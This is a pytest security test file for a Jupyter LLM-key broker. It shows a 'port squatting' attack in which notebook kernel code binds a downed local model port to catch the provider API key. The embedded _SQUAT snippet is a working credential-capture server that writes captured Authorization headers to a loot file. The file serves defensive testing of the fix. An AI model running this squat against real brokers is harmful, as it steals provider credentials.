"""Tier 2: port squatting. A model served on this machine (`api_base: http://127.0.0.1:PORT`, e.g.
a local vLLM) is allowlisted by host and port, not by who listens there. When that server is
down, code in a kernel binds the port itself and the broker sends it the provider key.

Found by this suite; the fix: a plain-http `api_base` now stops the server at start-up unless the
model sets `"allow_http": True` (and the broker refuses such a call at run time too). With
`allow_http` the admin accepts the risk for a local endpoint they trust: the squat then still
works, which the xfail(strict) test below keeps visible. TLS with certificate checking stops it.
"""
from __future__ import annotations

import dataclasses
import json
import pathlib

import pytest

from jupyter_securellm.demo import free_port


@pytest.fixture
def jp_server_config(securellm_server_config):  # the in-process broker server (testing/server_fixtures.py)
    return securellm_server_config


@pytest.fixture
def local_port():
    return free_port()  # nothing listens there: the "local model server" is down


@pytest.fixture
def securellm_config(openbao, server_token_file, vault_provider_key, local_port):
    return {"vault_url": openbao.url, "vault_auth_method": "token", "vault_token_path": str(server_token_file),
            "models": {"local": {"model": "openai/llama3", "secret_path": "llm/openai", "secret_key": "api_key",
                                 "api_base": f"http://127.0.0.1:{local_port}/v1", "allow_http": True}},
            "allowed_hosts": [f"127.0.0.1:{local_port}"], "preload_litellm": False}


_SQUAT = r'''
import json, os, threading, urllib.request, urllib.error
from http.server import BaseHTTPRequestHandler, HTTPServer
got = []
class H(BaseHTTPRequestHandler):
    def log_message(self, *a): pass
    def do_POST(self):
        got.append(self.headers.get("Authorization", ""))
        self.rfile.read(int(self.headers.get("Content-Length") or 0))
        self.send_response(500); self.send_header("Content-Length", "0"); self.end_headers()
srv = HTTPServer(("127.0.0.1", PORT), H)
threading.Thread(target=srv.serve_forever, daemon=True).start()
b = {"model": "local", "messages": [{"role": "user", "content": "hi"}]}
r = urllib.request.Request(os.environ["JUPYTER_SECURELLM_URL"] + "/chat/completions", data=json.dumps(b).encode(),
                           headers={"X-SecureLLM-Token": os.environ["JUPYTER_SECURELLM_KERNEL_TOKEN"],
                                    "Content-Type": "application/json"})
try:
    st = urllib.request.urlopen(r, timeout=60).status
except urllib.error.HTTPError as e:
    st = e.code
srv.shutdown(); srv.server_close()
json.dump({"status": st, "auth": got}, open(LOOT, "w"))
print("{}")
'''


@pytest.mark.xfail(strict=True, reason=(
    "accepted residual with allow_http=True: a plain-http loopback api_base is trusted by host:port only, "
    "so a kernel that binds the port while the local model server is down receives the provider key"))
async def test_kernel_squatting_a_local_model_port_gets_no_key(kernels, vault_provider_key, local_port, tmp_path, rt):
    kid = await kernels.start()
    loot = tmp_path / "squat.json"
    await kernels.run(kid, f"PORT = {local_port}\nLOOT = {str(loot)!r}\n" + _SQUAT, timeout=120)
    data = json.loads(loot.read_text())
    assert data["auth"], "the broker did not call the squatted port at all"
    rt.assert_no_secret(json.dumps(data), vault_provider_key, "a request the broker sent to a squatted local port")


def test_plain_http_api_base_without_allow_http_is_refused(openbao, server_token_file, local_port):
    """The default closes the squat: the broker will not send a key over plain http."""
    from jupyter_securellm.server.egress import endpoint_for
    from jupyter_securellm.server.errors import BrokerError
    from jupyter_securellm.server.request import ModelConfig

    allowed = [f"127.0.0.1:{local_port}"]
    cfg = ModelConfig(alias="m", model="openai/llama3", secret_path="p", secret_key="k",
                      api_base=f"http://127.0.0.1:{local_port}/v1")
    with pytest.raises(BrokerError) as exc:
        endpoint_for(cfg, allowed)
    assert exc.value.to_json()["error"]["type"] == "egress_denied"
    assert endpoint_for(dataclasses.replace(cfg, allow_http=True), allowed)[0].startswith("http://127.0.0.1")
